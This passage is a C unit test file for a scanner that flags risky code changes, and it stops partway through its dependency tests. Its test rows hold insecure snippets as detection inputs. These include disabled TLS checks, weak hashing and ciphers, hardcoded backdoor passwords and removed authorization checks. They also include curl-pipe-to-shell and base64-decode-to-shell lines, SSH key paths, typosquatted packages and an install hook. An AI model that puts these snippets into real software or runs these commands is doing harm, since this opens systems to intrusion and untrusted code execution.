/* What is new in a change: each attack as a pair of before and after, and beside it what must not be told. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "inspect/scan_change.h"

struct seen {
	struct scan_rule_set rules;
	uint32_t n, line;
};

static void on_found(void *arg, const struct scan_finding *f)
{
	struct seen *s = arg;
	/* What is none of a change's is not looked at. */
	if (f->rule == SCAN_RULE_TEXT)
		return;
	scan_rule_add(&s->rules, f->rule);
	s->n++;
	s->line = f->line;
}

static struct seen changed_beside(const char *name, const char *manifest, const char *before, const char *after)
{
	const struct scan_options o = {.subjects = SCAN_CHANGES, .limits = scan_limits_default()};
	struct slice old = slice_str(before), beside = slice_str(manifest);
	const struct scan_around around = {.before = before ? &old : NULL, .manifest = manifest ? &beside : NULL};
	struct scan_summary sum;
	struct seen s = {0};
	assert_int_equal(scan_changed(slice_str(after), &around, name, &o, &(struct scan_told){.found = on_found, .arg = &s}, &sum), 0);
	return s;
}

static struct seen changed(const char *name, const char *before, const char *after)
{
	return changed_beside(name, NULL, before, after);
}

static void check(const char *name, const char *before, const char *after, uint32_t rule)
{
	struct seen s = changed(name, before, after);
	if (rule == SCAN_RULES ? s.n > 0 : s.n != 1 || !scan_rule_in(&s.rules, rule))
		fail_msg("%s: %u told of: %s", name, s.n, after);
}

struct row {
	const char *name, *text;
};

static void checks_that_are_off_are_told(void **state)
{
	static const struct row tls[] = {
	        {"a.py", "r = s.get(u, headers=h(1), verify=False)"},
	        {"a.py", "client.verify = False"},
	        {"a.py", "c = ssl._create_unverified_context()"},
	        {"a.py", "ctx.verify_mode = ssl.CERT_NONE"},
	        {"a.ts", "const a = new Agent({ rejectUnauthorized: false })"},
	        {"a.js", "x = { \"rejectUnauthorized\": false }"},
	        {"a.js", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'"},
	        {"a.js", "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0"},
	        {"a.js", "x = { checkServerIdentity: () => undefined }"},
	        {"a.go", "var c = tls.Config{InsecureSkipVerify: true}"},
	        {"a.rs", "let c = b.danger_accept_invalid_certs(true);"},
	        {"a.c", "curl_easy_setopt(h, CURLOPT_SSL_VERIFYPEER, 0L);"},
	        {"a.php", "curl_setopt($h, CURLOPT_SSL_VERIFYPEER, false);"},
	        {"a.rb", "h.verify_mode = OpenSSL::SSL::VERIFY_NONE"},
	        {"A.java", "public void checkServerTrusted(X509Certificate[] c, String t)\n{\n}\n"},
	        {"A.java", "public boolean verify(String h, SSLSession s) {\n\treturn true;\n}"},
	        {"A.cs", "h.ServerCertificateCustomValidationCallback = (a, b, c, d) => true;"},
	        {"Makefile", "all:\n\tgit -c http.sslVerify=false clone u\n"},
	        {".npmrc", "strict-ssl = false"},
	        {".env", "export NODE_TLS_REJECT_UNAUTHORIZED=0"},
	        {"compose.yaml", "environment:\n  - NODE_TLS_REJECT_UNAUTHORIZED=0\n"},
	        {"compose.yaml", "  NODE_TLS_REJECT_UNAUTHORIZED: \"0\" # for now\n"},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(tls); i++)
		check(tls[i].name, "", tls[i].text, SCAN_RULE_CHANGE_TLS);
	check("a.py", "", "c.set_missing_host_key_policy(paramiko.AutoAddPolicy())", SCAN_RULE_CHANGE_HOST_KEY);
	check("ssh_config", "", "  StrictHostKeyChecking no", SCAN_RULE_CHANGE_HOST_KEY);
	check("a.js", "", "app.use(cors({ origin: true, maxAge: 1, credentials: true }))", SCAN_RULE_CHANGE_CORS);
	check("a.py", "", "m(allow_origins=[\"*\"], allow_credentials=True)", SCAN_RULE_CHANGE_CORS);
	check("a.py", "", "d(t, options={'verify_signature': False})", SCAN_RULE_CHANGE_SIGNATURE);
}

/* What is too weak for secrets, each beside what is near to it and is none. */
static void weak_cryptography_is_told(void **state)
{
	static const struct {
		const char *name, *text;
		uint32_t rule;
	} rows[] = {
	        {"a.js", "const resetToken = Math.random().toString(36).slice(2);", SCAN_RULE_CHANGE_RANDOM},
	        {"a.ts", "function makePassword(n: number): string {\n\tlet out = '';\n\tout += abc[Math.floor(Math.random() * 3)];\n}",
	                SCAN_RULE_CHANGE_RANDOM},
	        {"a.js", "save({ sessionId: 'a' + Math.random() })", SCAN_RULE_CHANGE_RANDOM},
	        {"a.js", "const makeSessionId = () => {\n\treturn String(Math.random());\n}", SCAN_RULE_CHANGE_RANDOM},
	        {"a.py", "def new_api_key(n):\n    return ''.join(random.choice(abc) for i in range(n))\n", SCAN_RULE_CHANGE_RANDOM},
	        {"a.py", "password: str = ''.join(random.choices(abc, k=8))", SCAN_RULE_CHANGE_RANDOM},
	        {"A.java", "String generateToken() {\n\tRandom r = new Random();\n\treturn \"\" + r.nextLong();\n}",
	                SCAN_RULE_CHANGE_RANDOM},
	        {"A.cs", "var salt = new Random().Next();", SCAN_RULE_CHANGE_RANDOM},
	        {"a.php", "<?php $user['password'] = md5(mt_rand());", SCAN_RULE_CHANGE_RANDOM},
	        {"a.rb", "def reset_token\n  rand(10 ** 8).to_s\nend\n", SCAN_RULE_CHANGE_RANDOM},
	        {"a.go", "package a\nimport \"math/rand\"\nfunc NewToken() string {\n\treturn f(rand.Int63())\n}\n",
	                SCAN_RULE_CHANGE_RANDOM},
	        {"a.c", "void make_salt(char *s)\n{\n\t*s = rand() % 64;\n}\n", SCAN_RULE_CHANGE_RANDOM},
	        {"a.rs", "fn session_token() -> u64 {\n\tfastrand::u64(..)\n}\n", SCAN_RULE_CHANGE_RANDOM},
	        {"a.js", "const tokenIndex = Math.floor(Math.random() * 3); const tokens = shuffle(Math.random())", SCAN_RULES},
	        {"a.js", "const jitter = Math.random(); const token = crypto.randomBytes(9)", SCAN_RULES},
	        {"a.py", "from random import SystemRandom\ndef new_token():\n    return SystemRandom().choice(a) + random.choice(b)\n",
	                SCAN_RULES},
	        {"a.go", "package a\nimport \"crypto/rand\"\nfunc NewToken() {\n\trand.Read(b)\n}\n", SCAN_RULES},
	        {"A.java", "byte[] salt = f(new SecureRandom());", SCAN_RULES},
	        {"A.java", "String makeToken(Random random) {\n\treturn random.next();\n}", SCAN_RULES},
	        {"a.js", "const h = crypto.createHash('md5').update(password).digest('hex')", SCAN_RULE_CHANGE_DIGEST},
	        {"a.py", "u.h = hashlib.sha1(password.encode()).hexdigest()", SCAN_RULE_CHANGE_DIGEST},
	        {"a.php", "<?php $h = md5($salt . $password);", SCAN_RULE_CHANGE_DIGEST},
	        {"a.rb", "h = Digest::MD5.hexdigest(password)", SCAN_RULE_CHANGE_DIGEST},
	        {"a.go", "h := md5.Sum([]byte(password))", SCAN_RULE_CHANGE_DIGEST},
	        {"a.c", "SHA1(password, strlen(password), out);", SCAN_RULE_CHANGE_DIGEST},
	        {"a.py", "etag = hashlib.md5(body).hexdigest()\ncheck_password(password)\n", SCAN_RULES},
	        {"a.js", "const h = createHash('sha1').update(content).digest('hex')", SCAN_RULES},
	        {"a.js", "const c = crypto.createCipheriv('des-ede3-cbc', key, iv)", SCAN_RULE_CHANGE_CIPHER},
	        {"a.py", "c = AES.new(key, AES.MODE_ECB)", SCAN_RULE_CHANGE_CIPHER},
	        {"A.java", "Cipher c = Cipher.getInstance(\"DES/CBC/PKCS5Padding\");", SCAN_RULE_CHANGE_CIPHER},
	        {"A.java", "Cipher c = Cipher.getInstance(\"AES\");", SCAN_RULE_CHANGE_CIPHER},
	        {"A.cs", "aes.Mode = CipherMode.ECB;", SCAN_RULE_CHANGE_CIPHER},
	        {"a.go", "c, err := rc4.NewCipher(key)", SCAN_RULE_CHANGE_CIPHER},
	        {"a.c", "EVP_EncryptInit_ex(x, EVP_des_cbc(), NULL, key, iv);", SCAN_RULE_CHANGE_CIPHER},
	        {"a.php", "<?php $c = openssl_encrypt($d, 'aes-256-ecb', $k);", SCAN_RULE_CHANGE_CIPHER},
	        {"a.rb", "c = OpenSSL::Cipher.new('des-ede3')", SCAN_RULE_CHANGE_CIPHER},
	        {"a.rs", "let c = Cipher::rc4();", SCAN_RULE_CHANGE_CIPHER},
	        {"A.java", "Cipher c = Cipher.getInstance(\"AES/GCM/NoPadding\");", SCAN_RULES},
	        {"a.js", "const c = crypto.createCipheriv('aes-256-gcm', key, iv)", SCAN_RULES},
	        {"a.js", "crypto.createCipheriv('aes-256-cbc', Buffer.from(key, 'hex'), Buffer.alloc(16))", SCAN_RULE_CHANGE_CONSTANT},
	        {"a.js", "crypto.pbkdf2Sync(p, 'salt', 200000, 32, 'sha256')", SCAN_RULE_CHANGE_CONSTANT},
	        {"a.js", "crypto.pbkdf2Sync(p, salt, 1000, 32, 'sha256')", SCAN_RULE_CHANGE_CONSTANT},
	        {"a.js", "generateKeyPairSync('rsa', { modulusLength: 1024 })", SCAN_RULE_CHANGE_CONSTANT},
	        {"a.py", "k = PBKDF2HMAC(algorithm=a, length=32, salt=b'abc', iterations=480_000)", SCAN_RULE_CHANGE_CONSTANT},
	        {"a.py", "k = rsa.generate_private_key(65537, key_size=1024)", SCAN_RULE_CHANGE_CONSTANT},
	        {"a.go", "k, err := rsa.GenerateKey(rand.Reader, 1024)", SCAN_RULE_CHANGE_CONSTANT},
	        {"A.java", "new IvParameterSpec(new byte[16])", SCAN_RULE_CHANGE_CONSTANT},
	        {"A.java", "new IvParameterSpec(bytes)", SCAN_RULES},
	        {"a.php", "<?php password_hash($p, PASSWORD_BCRYPT, ['cost' => 4]);", SCAN_RULE_CHANGE_CONSTANT},
	        {"a.rb", "k = OpenSSL::PKey::RSA.new(1024)", SCAN_RULE_CHANGE_CONSTANT},
	        {"a.js", "crypto.createCipheriv('aes-256-cbc', Buffer.from(key, 'hex'), Buffer.from(iv, 'hex'))", SCAN_RULES},
	        {"a.js", "crypto.pbkdf2Sync(p, salt, 210000, 32, 'sha256')", SCAN_RULES},
	        {"a.py", "k = PBKDF2HMAC(algorithm=a, length=32, salt=os.urandom(16), iterations=480_000)", SCAN_RULES},
	        {"a.go", "k, err := rsa.GenerateKey(rand.Reader, 4096)", SCAN_RULES},
	        {"a.js", "if (password === 'hunter2!') admin()", SCAN_RULE_CHANGE_LITERAL},
	        {"a.js", "if (req.headers['x-skip-auth'] === 'yes1') next()", SCAN_RULE_CHANGE_LITERAL},
	        {"a.py", "if request.args['password'] == 'letmein':\n    pass\n", SCAN_RULE_CHANGE_LITERAL},
	        {"a.c", "if (strcmp(password, \"xc3511\") == 0)\n\treturn 1;\n", SCAN_RULE_CHANGE_LITERAL},
	        {"A.java", "if (\"s3cr3t-4711\".equals(password)) { return; }", SCAN_RULE_CHANGE_LITERAL},
	        {"a.go", "if password == \"joshua5\" {\n}\n", SCAN_RULE_CHANGE_LITERAL},
	        {"a.rb", "return true if params[:password] == 'x' || password == 'opensesame'", SCAN_RULE_CHANGE_LITERAL},
	        {"a.js", "if (typeof password === 'string' && input.type === 'password' && password !== '') go()", SCAN_RULES},
	        {"a.js", "if (token === 'return' || name == 'secret')  go()", SCAN_RULES},
	        {"a.py", "if password == '********' or password == 'prompt':\n    pass\n", SCAN_RULES},
	        {"a.py", "app.run(host='0.0.0.0', debug=True)", SCAN_RULE_CHANGE_DEBUG},
	        {".env", "APP_DEBUG=true\n", SCAN_RULE_CHANGE_DEBUG},
	        {"a.py", "app.run(host='0.0.0.0', debug=False)", SCAN_RULES},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		check(rows[i].name, "", rows[i].text, rows[i].rule);
		check(rows[i].name, rows[i].text, rows[i].text, SCAN_RULES);
	}
	check("tests/a.js", "", "const token = Math.random()", SCAN_RULE_CHANGE_TEST_WEAK);
	check("A.cs", "", "p.SetIsOriginAllowed(o => true).AllowCredentials();", SCAN_RULE_CHANGE_CORS);
	check("A.java", "", "@CrossOrigin(origins = \"*\", allowCredentials = \"true\")", SCAN_RULE_CHANGE_CORS);
	check("A.java", "", "@CrossOrigin(origins = \"*\")", SCAN_RULES);
}

/* A check that a change takes out of a function, or makes say yes; and what only looks so. */
static void checks_that_are_gone_are_told(void **state)
{
	static const struct {
		const char *name, *before, *after;
		uint32_t rule;
	} rows[] = {
	        {"a.js",
	                "function drop(user, id) {\n\tif (!user.isAdmin) return res.status(403).end();\n\tdb.remove(id); log(id, "
	                "user);\n}\n",
	                "function drop(user, id) {\n\tdb.remove(id); log(id, user);\n}\n", SCAN_RULE_CHANGE_CHECK_GONE},
	        {"a.js",
	                "function drop(user, id) {\n\tif (!user.isAdmin) return res.status(403).end();\n\tdb.remove(id); log(id, "
	                "user);\n}\n",
	                "function drop(user, id) {\n\tstore.erase(id, 7); note(id, user);\n}\n", SCAN_RULE_CHANGE_CHECK_LESS},
	        {"a.js",
	                "function drop(user, id) {\n\tif (!user.isAdmin) return res.status(403).end();\n\tdb.remove(id); log(id, "
	                "user);\n}\n",
	                "function drop(user, id) {\n\t// if (!user.isAdmin) return res.status(403).end();\n\tdb.remove(id); log(id, "
	                "user);\n}\n",
	                SCAN_RULE_CHANGE_CHECK_GONE},
	        {"a.js",
	                "function drop(user, id) {\n\tif (!user.isAdmin) return res.status(403).end();\n\tdb.remove(id); log(id, "
	                "user);\n}\n",
	                "function drop(user, id) {\n\tif (false) return res.status(403).end();\n\tdb.remove(id); log(id, user);\n}\n",
	                SCAN_RULE_CHANGE_CHECK_TRUE},
	        {"a.js", "app.post('/x', requireAuth, (req, res) => {\n\tdb.remove(req.id); res.end('done');\n})\n",
	                "app.post('/x', (req, res) => {\n\tdb.remove(req.id); res.end('done');\n})\n", SCAN_RULE_CHANGE_CHECK_GONE},
	        {"a.ts", "router.delete('/user/all', requireAdmin, users.removeAll);\n", "router.delete('/user/all', users.removeAll);\n",
	                SCAN_RULE_CHANGE_CHECK_LESS},
	        {"a.py", "@login_required\ndef view(request, key):\n    thing = get(key)\n    return render(request, thing)\n",
	                "def view(request, key):\n    thing = get(key)\n    return render(request, thing)\n", SCAN_RULE_CHANGE_CHECK_GONE},
	        {"a.py", "class V(View):\n    permission_classes = [IsAuthenticated]\n", "class V(View):\n    permission_classes = []\n",
	                SCAN_RULE_CHANGE_CHECK_LESS},
	        {"a.py", "def verify_signature(body, sig):\n    d = hmac.new(KEY, body)\n    return hmac.compare_digest(d, sig)\n",
	                "def verify_signature(body, sig):\n    return True\n    d = hmac.new(KEY, body)\n    return hmac.compare_digest(d, "
	                "sig)\n",
	                SCAN_RULE_CHANGE_CHECK_TRUE},
	        {"a.go",
	                "package a\nfunc (s *S) drop(c *C, id string) error {\n\tif !s.hasPermission(c) {\n\t\treturn ErrNo\n\t}\n\treturn "
	                "s.db.remove(id)\n}\n",
	                "package a\nfunc (s *S) drop(c *C, id string) error {\n\treturn s.db.remove(id)\n}\n", SCAN_RULE_CHANGE_CHECK_GONE},
	        {"A.java",
	                "class A {\n\t@PreAuthorize(\"hasRole('ADMIN')\")\n\tpublic void drop(long id) {\n\t\trepository.remove(id, "
	                "now());\n\t}\n}\n",
	                "class A {\n\tpublic void drop(long id) {\n\t\trepository.remove(id, now());\n\t}\n}\n",
	                SCAN_RULE_CHANGE_CHECK_GONE},
	        {"A.cs", "class A\n{\n\t[Authorize]\n\tpublic void Drop(long id)\n\t{\n\t\trepository.Remove(id, Now());\n\t}\n}\n",
	                "class A\n{\n\tpublic void Drop(long id)\n\t{\n\t\trepository.Remove(id, Now());\n\t}\n}\n",
	                SCAN_RULE_CHANGE_CHECK_GONE},
	        {"a.rb", "def destroy\n  authorize @post\n  @post.destroy!\n  redirect_to posts_path, notice: 'x'\nend\n",
	                "def destroy\n  @post.destroy!\n  redirect_to posts_path, notice: 'x'\nend\n", SCAN_RULE_CHANGE_CHECK_GONE},
	        {"a.php",
	                "<?php function drop($id) {\n\tif (!current_user_can_access($id)) { abort(403); }\n\tDB::delete($id, "
	                "$this->now);\n}\n",
	                "<?php function drop($id) {\n\tDB::delete($id, $this->now);\n}\n", SCAN_RULE_CHANGE_CHECK_GONE},
	        {"a.rs", "fn drop(u: &User, id: u64) {\n\tif !u.is_admin() {\n\t\treturn;\n\t}\n\tdb::remove(id, now());\n}\n",
	                "fn drop(u: &User, id: u64) {\n\tdb::remove(id, now());\n}\n", SCAN_RULE_CHANGE_CHECK_GONE},
	        {"a.c", "int drop(struct user *u, int id)\n{\n\tif (!is_admin(u))\n\t\treturn -EPERM;\n\treturn db_remove(id, now());\n}\n",
	                "int drop(struct user *u, int id)\n{\n\treturn db_remove(id, now());\n}\n", SCAN_RULE_CHANGE_CHECK_GONE},
	        /* Changed otherwise as well. */
	        {"a.py", "def view(request, key):\n    check_permission(request)\n    return render(request, key)\n",
	                "def view(request, key):\n    thing = get(key, cached=True)\n    return render(request, thing)\n",
	                SCAN_RULE_CHANGE_CHECK_LESS},
	        /* Another one in its place, moved within the file, or gone with what it was for. */
	        {"a.py", "@login_required\ndef view(request, key):\n    return render(request, get(key), 3)\n",
	                "@permission_required('x')\ndef view(request, key):\n    return render(request, get(key), 3)\n", SCAN_RULES},
	        {"a.py", "def view(request, key):\n    check_permission(request)\n    return render(request, get(key), 3)\n",
	                "def both(request):\n    check_permission(request)\n\ndef view(request, key):\n    both(request)\n    return "
	                "render(request, get(key), 3)\n",
	                SCAN_RULES},
	        {"a.py", "def view(request, key):\n    check_permission(request)\n    return render(request, get(key), 3)\n",
	                "def other():\n    pass\n", SCAN_RULES},
	        {"a.js", "class Guest {\n\tname() { return 'x'; }\n}\n",
	                "class Guest {\n\tname() { return 'x'; }\n\tisAdminUser() { return true; }\n}\n", SCAN_RULES},
	        {"a.c", "int is_even(int n)\n{\n\treturn n % 2 == 0 && n != 4 && n > 1;\n}\n", "int is_even(int n)\n{\n\treturn 1;\n}\n",
	                SCAN_RULES},
	        /* Tests. */
	        {"a.test.js", "it('adds', () => {\n\texpect(add(1, 2)).toBe(3);\n})\n", "it('adds', () => {\n\tadd(1, 2);\n})\n",
	                SCAN_RULE_CHANGE_TEST_LESS},
	        {"test_a.py", "def test_a():\n    assert f(1)\n\ndef test_b():\n    assert f(2)\n", "def test_a():\n    assert f(1)\n",
	                SCAN_RULE_CHANGE_TEST_LESS},
	        {"test_a.py", "def test_a():\n    assert f(1)\n", "def test_b():\n    assert f(1)\n", SCAN_RULES},
	        {"test_a.py", "def test_a():\n    assert f(1)\n", "@pytest.mark.skip(reason='x')\ndef test_a():\n    assert f(1)\n",
	                SCAN_RULE_CHANGE_TEST_OFF},
	        {"a.test.js", "it('adds', () => {\n\texpect(add(1, 2)).toBe(3);\n})\n",
	                "it.only('adds', () => {\n\texpect(add(1, 2)).toBe(3);\n})\n", SCAN_RULE_CHANGE_TEST_OFF},
	        {"a_test.go", "package a\n", "package a\nfunc TestA(t *testing.T) {\n\tt.Skip(\"x\")\n}\n", SCAN_RULE_CHANGE_TEST_OFF},
	        {"a_test.go", "package a\n", "package a\nfunc TestA(t *testing.T) {\n\tif testing.Short() {\n\t\tt.Skip(\"x\")\n\t}\n}\n",
	                SCAN_RULES},
	        {"tests/a.rs", "", "#[ignore]\nfn a() {}\n", SCAN_RULE_CHANGE_TEST_OFF},
	        {"src/ATest.java", "", "@Disabled\nvoid a() {}\n", SCAN_RULE_CHANGE_TEST_OFF},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct seen s = changed(rows[i].name, rows[i].before, rows[i].after);
		if (rows[i].rule == SCAN_RULES ? s.n > 0 : s.n != 1 || !scan_rule_in(&s.rules, rows[i].rule))
			fail_msg("%s: %u told of: %s", rows[i].name, s.n, rows[i].after);
		check(rows[i].name, rows[i].after, rows[i].after, SCAN_RULES);
		/* The way back brings a check. */
		s = changed(rows[i].name, rows[i].after, rows[i].before);
		assert_false(scan_rule_in(&s.rules, SCAN_RULE_CHANGE_CHECK_GONE) || scan_rule_in(&s.rules, SCAN_RULE_CHANGE_CHECK_TRUE));
	}
}

static void others_are_not(void **state)
{
	static const struct row rows[] = {
	        {"a.py", "# verify=False\n"},
	        {"a.py", "x = \"s.get(u, verify=False)\""},
	        {"a.py", "check(schema, verify=False)"},
	        {"a.py", "def get(u, verify=True): pass"},
	        {"a.js", "// rejectUnauthorized: false\n"},
	        {"a.js", "x = { rejectUnauthorized: isLocal }"},
	        {"a.js", "cors({ origin: allowed, credentials: true })"},
	        {"a.go", "var c = tls.Config{InsecureSkipVerify: false}"},
	        {"a.c", "curl_easy_setopt(h, CURLOPT_SSL_VERIFYPEER, 1L);"},
	        {"A.java", "public void checkServerTrusted(X509Certificate[] c, String t) {\n\tinner.check(c, t);\n}\n"},
	        {"A.java", "public boolean verify(String h, SSLSession s) {\n\treturn h.equals(name);\n}"},
	        {"a.sh", "echo 'curl -k is not to be used'\n"},
	        {"a.sh", "tar -k x\n"},
	        {"README.md", "strict-ssl = false"},
	        {".npmrc", "strict-ssl = true\n# strict-ssl = false\n"},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
		check(rows[i].name, "", rows[i].text, SCAN_RULES);
}

static void only_what_is_new_is_told(void **state)
{
	(void)state;
	const char *off = "r = s.get(u, verify=False)\n";
	check("a.py", off, off, SCAN_RULES);
	check("a.py", NULL, off, SCAN_RULE_CHANGE_TLS);
	/* Moved, and edited. */
	check("a.py", off, "\n\nif x:\n\tr = s.get(u, verify=False)\n", SCAN_RULES);
	check("a.py", off, "r = s.get(u, timeout=3, verify=False)\n", SCAN_RULES);
	/* One more, and its place. */
	struct seen s = changed("a.py", off, "q = s.put(u, verify=False)\nr = s.get(u, verify=False)\n");
	assert_true(s.n == 1 && s.line == 1 && scan_rule_in(&s.rules, SCAN_RULE_CHANGE_TLS));
	s = changed("a.py", off, "r = s.get(u, verify=False)\nr = s.get(u, verify=False)\n");
	assert_int_equal(s.n, 1);
	/* In tests it is a note. */
	check("tests/a.py", "", off, SCAN_RULE_CHANGE_TEST_WEAK);
	check("src/a.test.js", "", "x = { rejectUnauthorized: false }", SCAN_RULE_CHANGE_TEST_WEAK);
	check("pkg/a_test.go", "", "c.InsecureSkipVerify = true", SCAN_RULE_CHANGE_TEST_WEAK);
	check("src/AppTest.java", "", "x = NoopHostnameVerifier.INSTANCE;", SCAN_RULE_CHANGE_TEST_WEAK);
	check("src/latest.py", "", off, SCAN_RULE_CHANGE_TLS);
	check("contest/attest.py", "", off, SCAN_RULE_CHANGE_TLS);
}

static void what_code_can_do_is_told_once(void **state)
{
	static const struct {
		const char *name, *text;
		uint32_t rule;
	} rows[] = {
	        {"a.py", "import base64\nx = base64.b64decode(y)\n", SCAN_RULE_CHANGE_ADDS_DECODING},
	        {"a.js", "use(atob(y))\n", SCAN_RULE_CHANGE_ADDS_DECODING},
	        {"a.py", "import requests\nimport socket\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
	        {"a.py", "from urllib.request import urlopen\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
	        {"a.py", "from subprocess import run\n", SCAN_RULE_CHANGE_ADDS_EXEC},
	        {"a.py", "import ctypes as c\n", SCAN_RULE_CHANGE_ADDS_NATIVE},
	        {"a.mjs", "import { get } from 'node:https'\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
	        {"a.js", "const { exec } = require('child_process')\n", SCAN_RULE_CHANGE_ADDS_EXEC},
	        {"a.js", "f(await import('dgram'))\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
	        {"a.js", "new Function(x)()\n", SCAN_RULE_CHANGE_ADDS_EVAL},
	        {"a.go", "package a\nimport (\n\t\"fmt\"\n\te \"os/exec\"\n)\n", SCAN_RULE_CHANGE_ADDS_EXEC},
	        {"a.rs", "use std::net::TcpStream;\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
	        {"a.c", "#include <sys/socket.h>\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
	        {"a.c", "int f(void) { return execve(a, b, c); }\n", SCAN_RULE_CHANGE_ADDS_EXEC},
	        {"A.java", "import java.net.http.HttpClient;\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
	        {"A.cs", "using System.Net.Http;\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
	        {"a.rb", "require 'net/http'\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
	        {"a.php", "<?php shell_exec($x);\n", SCAN_RULE_CHANGE_ADDS_EXEC},
	        {"a.sh", "x=$(curl u)\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
	        {"a.py", "p = os.path.expanduser('~/.bashrc')\n", SCAN_RULE_CHANGE_ADDS_PERSISTENCE},
	        {"a.py", "p = h + '/.ssh/id_ed25519'\n", SCAN_RULE_CHANGE_ADDS_CREDENTIALS},
	        /* Names of their own, and words in texts and comments. */
	        {"a.py", "from .requests import x\nsocket = 3\n# import socket\n", SCAN_RULES},
	        {"a.js", "import { request } from './http'\nimport https2 from './x'\n", SCAN_RULES},
	        {"a.js", "re.exec(x); log('child_process'); my.fetch(u)\n", SCAN_RULES},
	        {"a.go", "package a\nimport \"strings\"\nvar s = \"net/http\"\n", SCAN_RULES},
	        {"a.c", "#include \"socket.h\"\nvoid filesystem(int x);\n", SCAN_RULES},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		check(rows[i].name, "", rows[i].text, rows[i].rule);
		check(rows[i].name, rows[i].text, rows[i].text, SCAN_RULES);
	}
	check("a.py", "import socket\n", "import requests\n", SCAN_RULES);
}

static void what_comes_is_run(void **state)
{
	static const struct {
		const char *text;
		uint32_t rule;
	} rows[] = {
	        {"curl -s https://x.example/i | sh\n", SCAN_RULE_CHANGE_RUNS_DOWNLOAD},
	        {"x=$(curl -s https://x.example/i)\neval \"$x\"\n", SCAN_RULE_CHANGE_RUNS_DOWNLOAD},
	        {"curl -so /tmp/f https://x.example/i\nsh /tmp/f\n", SCAN_RULE_CHANGE_RUNS_DOWNLOAD},
	        {"echo aWQK | base64 -d | sh\n", SCAN_RULE_CHANGE_RUNS_DECODED},
	        {"echo aWQK | base64 -d >/tmp/f\nsh /tmp/f\n", SCAN_RULE_CHANGE_RUNS_DECODED},
	        {"curl -so /tmp/f https://x.example/i\necho \"0123  /tmp/f\" | sha256sum -c\nsh /tmp/f\n", SCAN_RULES},
	        {"curl -so /tmp/f https://x.example/i\nopenssl dgst -sha256 -verify k.pem -signature s /tmp/f && sh /tmp/f\n", SCAN_RULES},
	        {"curl -LsSf https://astral.sh/uv/install.sh | sh\n", SCAN_RULES},
	        {"curl -so a.tar.gz https://x.example/a.tar.gz\ntar xf a.tar.gz\n", SCAN_RULES},
	};
	(void)state;
	/* What stands before the commands of a Dockerfile and of make is none. */
	struct seen docker = changed("Dockerfile", "FROM a\n", "FROM a\nRUN curl -s https://x.example/i | sh\n");
	struct seen make = changed("Makefile", "all:\n", "all:\n\t@curl -s https://x.example/i | sh\n");
	assert_true(
	        scan_rule_in(&docker.rules, SCAN_RULE_CHANGE_RUNS_DOWNLOAD) && scan_rule_in(&make.rules, SCAN_RULE_CHANGE_RUNS_DOWNLOAD));
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		/* That it fetches or decodes is told beside that. */
		struct seen s = changed("a.sh", "make\n", rows[i].text), same = changed("a.sh", rows[i].text, rows[i].text);
		for (uint32_t r = SCAN_RULE_CHANGE_RUNS_DOWNLOAD; r <= SCAN_RULE_CHANGE_RUNS_DECODED; r++)
			if (scan_rule_in(&s.rules, r) != (r == rows[i].rule))
				fail_msg("%s", rows[i].text);
		assert_int_equal(same.n, 0);
	}
}

/* What is told beside the dependency itself, if anything. */
static void dependencies_are_judged(void **state)
{
	static const struct {
		const char *name, *before, *after;
		uint32_t rule;
	} rows[] = {
	        {"package.json", "{}", "{\"dependencies\": {\"lodash\": \"^4\"}}", SCAN_RULE_CHANGE_DEPENDENCY},
	        {"package.json", "{\"devDependencies\": {\"lodash\": \"^3\"}}", "{\"dependencies\": {\"lodash\": \"^4\"}}", SCAN_RULES},
	        {"package.json", "{}", "{\"dependencies\": {\"lodahs\": \"^4\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
	        {"package.json", "{}", "{\"dependencies\": {\"crossenv\": \"1\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
	        {"package.json", "{}", "{\"dependencies\": {\"@typess/node\": \"1\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"npm:lodahs@1\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
	        {"package.json", "{}", "{\"dependencies\": {\"preact\": \"1\", \"enquirer\": \"1\", \"@types/x\": \"1\"}}",
	                SCAN_RULE_CHANGE_DEPENDENCY},
	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"github:a/b#c\"}}", SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"a/b\"}}", SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"file:../b\", \"y\": \"workspace:*\", \"z\": \"1.x || >=2.5.0\"}}",
	                SCAN_RULE_CHANGE_DEPENDENCY},
	        {"package.json", "{\"dependencies\": {\"x\": \"github:a/b#1\"}}", "{\"dependencies\": {\"x\": \"github:a/b#2\"}}",
	                SCAN_RULES},
	        {"package.json", "{\"dependencies\": {\"x\": \"1\"}}", "{\"dependencies\": {\"x\": \"github:a/b#2\"}}",
	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"tests/fixtures/package.json", "{}", "{\"dependencies\": {\"lodahs\": \"^4\"}}", SCAN_RULE_CHANGE_DEPENDENCY},
	        {"package.json", "{}", "{\"scripts\": {\"postinstall\": \"node setup_bun.js\"}}", SCAN_RULE_CHANGE_INSTALL},
